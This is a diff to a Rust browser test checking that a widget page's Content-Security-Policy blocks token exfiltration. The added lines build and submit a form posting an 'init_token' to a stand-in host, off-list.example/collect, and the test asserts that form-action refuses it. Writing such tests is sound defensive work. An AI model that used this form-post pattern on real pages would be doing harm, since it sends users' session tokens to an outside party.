@@ -205,7 +205,7 @@ async fn the_phone_host_page_always_offers_a_way_out() {
 
 /// The widget page's CSP names its origins: a script on the page (a foothold, a compromised
 /// dependency) cannot send the session's `init_token` or `signature` anywhere else, by fetch, by
-/// image beacon or by frame. Chromium reports each refusal as a `securitypolicyviolation`.
+/// image beacon, by frame or by posting a form. Chromium reports each refusal as a `securitypolicyviolation`.
 #[tokio::test]
 async fn the_widget_page_refuses_origins_off_its_list() {
     if skip() {
@@ -230,6 +230,16 @@ async fn the_widget_page_refuses_origins_off_its_list() {
         const frame = document.createElement('iframe');
         frame.src = 'https://off-list.example/frame';
         document.body.appendChild(frame);
+        // A form posted off the list would carry the session away in a top-level navigation.
+        const form = document.createElement('form');
+        form.method = 'post';
+        form.action = 'https://off-list.example/collect';
+        const field = document.createElement('input');
+        field.name = 'init_token';
+        field.value = 'stolen';
+        form.appendChild(field);
+        document.body.appendChild(form);
+        form.submit();
         // Permissions-Policy: the camera only for this page and the listed origins; no location.
         const policy = document.featurePolicy;
         const widget = new URL(document.querySelector('script[src*="widget"]').src).origin;
@@ -245,7 +255,7 @@ async fn the_widget_page_refuses_origins_off_its_list() {
     "#;
     let out = c.execute_async(script, vec![]).await.expect("script runs");
     let seen: Vec<String> = serde_json::from_value(out["seen"].clone()).expect("list");
-    for directive in ["connect-src", "img-src", "frame-src"] {
+    for directive in ["connect-src", "img-src", "frame-src", "form-action"] {
         assert!(
             seen.iter().any(|v| v.starts_with(directive) && v.contains("off-list.example")),
             "{directive} must refuse off-list.example: {seen:?}"
